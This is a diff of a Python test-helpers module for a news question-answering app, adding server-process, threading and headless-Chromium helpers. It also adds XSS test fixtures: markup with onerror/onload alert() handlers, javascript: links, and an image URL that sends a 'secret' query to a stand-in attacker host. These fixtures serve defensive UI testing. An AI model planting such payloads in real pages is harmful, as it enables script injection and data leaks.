@@ -1,4 +1,6 @@
-"""Shared helpers of the reliability and security tests (issue 7).
+"""Shared helpers of the tests that run the app or many things at once (issue 7).
+
+Importable as ``relkit`` by every test (``tests/conftest.py`` puts this folder on the path).
 
 * ``STRESS``: ``NEWSQA_STRESS=1`` (``make stress``) switches the tests to their full size.
 * ``KeywordEmbedder``: the real word-piece tokenizer (so chunks are cut exactly as in
@@ -7,17 +9,24 @@
 * ``FakeLlama``: stands in for ``llama_cpp.Llama`` inside the real ``LlamaCppChat``. Like a
   llama.cpp context it serves one request at a time: concurrent use is detected and fails.
 * ``assert_store_consistent`` / ``self_retrieval``: the invariants every test checks.
+* ``in_threads``: jobs started together from threads.
+* ``app_server`` / ``real_app_server``: `rag serve` in a child process (fake or real models),
+  both started by ``serving``; ``stop`` ends a child process.
+* ``chromium`` / ``browser_marks``: headless Chromium through Playwright.
 """
 
 from __future__ import annotations
 
 import contextlib
+import dataclasses
 import hashlib
 import json
 import os
 import random
 import re
 import sqlite3
+import subprocess
+import sys
 import threading
 import time
 from collections.abc import Callable, Iterator, Sequence
@@ -31,6 +40,7 @@ from rag.store import Store, query_terms
 
 STRESS = os.environ.get("NEWSQA_STRESS", "") not in ("", "0")
 HERE = Path(__file__).resolve().parent
+ROOT = HERE.parent.parent
 CHILD = HERE / "store_child.py"
 DIM = 384
 
@@ -204,7 +214,7 @@ def sqlite_count(path: Path) -> int:
 
 # ---- a fake llama.cpp backend for the real LlamaCppChat ----------------------------------------
 
-_PASSAGE = re.compile(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', re.S)
+PASSAGE = re.compile(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', re.S)
 
 
 def quote_first_sentence(prompt: str) -> str:
@@ -215,7 +225,7 @@ def quote_first_sentence(prompt: str) -> str:
     if prompt.rstrip().endswith("Standalone question:"):
         users = re.findall(r"^User: (.*)$", prompt, re.M)
         return users[-1] if users else "What happened?"
-    passages = _PASSAGE.findall(prompt)
+    passages = PASSAGE.findall(prompt)
     if not passages:
         return "The articles don't say."
     n, body = passages[0]
@@ -343,6 +353,33 @@ def rss_bytes() -> int:
     """Resident set size of this process."""
     with open("/proc/self/statm") as f:
         return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
+
+
+def in_threads(
+    jobs: Sequence[Callable[[], Any]], timeout: float
+) -> tuple[list[Any], list[BaseException]]:
+    """Run the jobs at once (released together by a barrier); their results and errors.
+
+    A job still running after ``timeout`` seconds fails the test: something hung.
+    """
+    barrier = threading.Barrier(len(jobs))
+    results: list[Any] = [None] * len(jobs)
+    errors: list[BaseException] = []
+
+    def run(i: int) -> None:
+        barrier.wait()
+        try:
+            results[i] = jobs[i]()
+        except BaseException as ex:  # noqa: BLE001 - every failure is reported
+            errors.append(ex)
+
+    threads = [threading.Thread(target=run, args=(i,)) for i in range(len(jobs))]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(timeout=timeout)
+    assert not any(t.is_alive() for t in threads), f"a job still runs after {timeout} s: it hung"
+    return results, errors
 
 
 # ---- the command line ---------------------------------------------------------------------------
@@ -491,7 +528,7 @@ def real_hostile_run(embedder: Any) -> dict[str, Any]:
             return stream()
 
         assistant = Assistant(settings, llm=model, embedder=embedder)
-        seeds = HERE.parent.parent / "seeds"
+        seeds = ROOT / "seeds"
         report = assistant.ingest([story, seeds])
         assert not report.failed, report.failed
         questions = REAL_QUESTIONS if STRESS else REAL_QUESTIONS[:3]
@@ -527,3 +564,172 @@ def real_hostile_run(embedder: Any) -> dict[str, Any]:
             "calls": trace["calls"], "overlaps": trace["overlaps"], "stored": stored,
         }  # fmt: skip
         return _REAL["run"]
+
+
+# ---- the app over HTTP: `rag serve` with fake models in a child process -------------------------
+
+SERVE_CHILD = HERE / "serve_child.py"
+ARTICLES = HERE.parent / "data" / "articles"
+GATE_ENV = "NEWSQA_TEST_GATE"
+# Markup that would run a script, open a javascript: link or load a remote image if the UI
+# rendered it instead of showing it as text.
+HOSTILE_MARKUP = (
+    f"<img src=x onerror=alert(1)> <svg onload=alert(2)> [x](javascript:alert(3)) "
+    f'<a href="javascript:alert(4)">the archive</a> ![](https://{ATTACKER}/?q=secret)'
+)
+HOSTILE_GALLERY = markdown_article(
+    "City gallery <img src=x onerror=alert(5)> reopens",
+    "2024-10-01",
+    f"The city gallery reopened on Friday with a new wing {HOSTILE_MARKUP} and restored murals.",
+    "The gallery wing cost four million euros <svg onload=alert(6)> and took two years.",
+)
+HOSTILE_RECORD = {  # a javascript: URL and markup in the metadata of a JSON record
+    "doc_id": "gallery-js",
+    "title": "Gallery shop <svg onload=alert(7)> opens",
+    "url": "javascript:alert(8)",
+    "published": "2024-10-02",
+    "text": f"The gallery shop opened next to the new wing and sells prints {HOSTILE_MARKUP}.",
+}
+
+
+@dataclasses.dataclass
+class AppServer:
+    """A running `rag serve` (fake models): its URL, store, queue gate and output."""
+
+    url: str
+    store: Path
+    gate: Path
+    proc: subprocess.Popen[str]
+    log: list[str]
+
+    def release(self) -> None:
+        """Let the answers to ``HOLD`` questions go on."""
+        self.gate.touch()
+
+
+@contextlib.contextmanager
+def app_server(root: Path, extra: Sequence[Path] = (), timeout: float = 120) -> Iterator[AppServer]:
+    """`rag serve --ingest tests/data/articles EXTRA...` on a free loopback port, until exit."""
+    store, gate = root / "store", root / "gate"
+    port = free_port()
+    env = child_env(PYTHONUNBUFFERED="1", **{GATE_ENV: str(gate)})
+    # Hashed-keyword vectors are less similar than real ones: a lower gate keeps answers coming.
+    config = root / "serve.toml"
+    config.write_text("[retrieve]\nmin_score = 0.05\n", encoding="utf-8")
+    ingest = [a for p in [ARTICLES, *extra] for a in ("--ingest", str(p))]
+    cmd = [sys.executable, str(SERVE_CHILD), "serve", "--store", str(store), "--config",
+           str(config), "--port", str(port), *ingest]  # fmt: skip
+    # (A graceful shutdown waits 5 s for open event streams: stop it sooner.)
+    with serving(cmd, port, cwd=root, env=env, timeout=timeout, stop_timeout=3) as (url, proc, log):
+        try:
+            yield AppServer(url, store, gate, proc, log)
+            assert proc.poll() is None, "the server died:\n" + "".join(log[-60:])
+        finally:
+            gate.touch()
+
+
+@contextlib.contextmanager
+def real_app_server(store: Path, timeout: float = 180) -> Iterator[str]:
+    """`rag ingest seeds/` then `rag serve` (default config, packaged models); yields its URL."""
+    rag = Path(sys.executable).with_name("rag")
+    env = child_env()
+    ingest = [str(rag), "ingest", "seeds/", "--store", str(store)]
+    subprocess.run(ingest, cwd=ROOT, env=env, check=True, timeout=600, capture_output=True)
+    port = free_port()
+    cmd = [str(rag), "serve", "--store", str(store), "--port", str(port)]
+    with serving(cmd, port, cwd=ROOT, env=env, timeout=timeout) as (url, _, log):
+        try:
+            yield url
+        finally:
+            sys.stderr.write("".join(log[-40:]))
+
+
+@contextlib.contextmanager
+def serving(
+    cmd: Sequence[str], port: int, *, cwd: Path, env: dict[str, str], timeout: float,
+    stop_timeout: float = 20,
+) -> Iterator[tuple[str, subprocess.Popen[str], list[str]]]:  # fmt: skip
+    """Run a `rag serve` command until it prints "ready at URL"; yield (URL, process, output).
+
+    The URL has no trailing slash; the output lines keep coming in while the server runs.
+    The server is stopped on exit.
+    """
+    proc = subprocess.Popen(cmd, cwd=cwd, env=env, stdout=subprocess.PIPE,
+                            stderr=subprocess.STDOUT, text=True)  # fmt: skip
+    log: list[str] = []
+    ready = threading.Event()
+
+    def read() -> None:
+        assert proc.stdout is not None
+        for line in proc.stdout:
+            log.append(line)
+            if "ready at" in line:
+                ready.set()
+
+    threading.Thread(target=read, daemon=True).start()
+    try:
+        deadline = time.monotonic() + timeout
+        while not ready.wait(0.2):
+            if proc.poll() is not None or time.monotonic() > deadline:
+                raise AssertionError("rag serve did not start:\n" + "".join(log))
+        found = re.search(r"https?://\S+", next(line for line in log if "ready at" in line))
+        assert found and f"127.0.0.1:{port}" in found.group(0), log
+        yield found.group(0).rstrip("/"), proc, log
+    finally:
+        stop(proc, stop_timeout)
+
+
+def stop(proc: subprocess.Popen[Any], timeout: float = 20) -> None:
+    """Terminate a child process; kill it if it is still there after ``timeout`` seconds."""
+    proc.terminate()
+    try:
+        proc.wait(timeout=timeout)
+    except subprocess.TimeoutExpired:
+        proc.kill()
+        proc.wait()
+
+
+def child_env(**extra: str) -> dict[str, str]:
+    """This environment for a child `rag`: offline, no telemetry, no login, token or config."""
+    drop = {"NEWSQA_AUTH", "NEWSQA_CONFIG", "NEWSQA_API_TOKEN"}
+    env = {k: v for k, v in os.environ.items() if k not in drop}
+    env.update(HF_HUB_OFFLINE="1", TRANSFORMERS_OFFLINE="1", ANONYMIZED_TELEMETRY="False",
+               GRADIO_ANALYTICS_ENABLED="False", **extra)  # fmt: skip
+    return env
+
+
+def free_port() -> int:
+    """A TCP port free on the loopback interface right now."""
+    import socket
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+# ---- headless Chromium (Debian's, never `playwright install`) -----------------------------------
+
+CHROMIUM = Path("/usr/bin/chromium")
+CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+                 "--disable-component-update", "--disable-sync"]  # fmt: skip
+
+
+def browser_marks() -> list[Any]:
+    """``pytestmark`` of a test in Chromium: ``browser``, skipped where Chromium is missing."""
+    import pytest
+
+    reason = f"{CHROMIUM} is not installed (scripts/ensure-chromium.sh installs it)"
+    return [pytest.mark.browser, pytest.mark.skipif(not CHROMIUM.exists(), reason=reason)]
+
+
+@contextlib.contextmanager
+def chromium() -> Iterator[Any]:
+    """Headless Chromium driven by Playwright, closed on exit."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
+        try:
+            yield browser
+        finally:
+            browser.close()
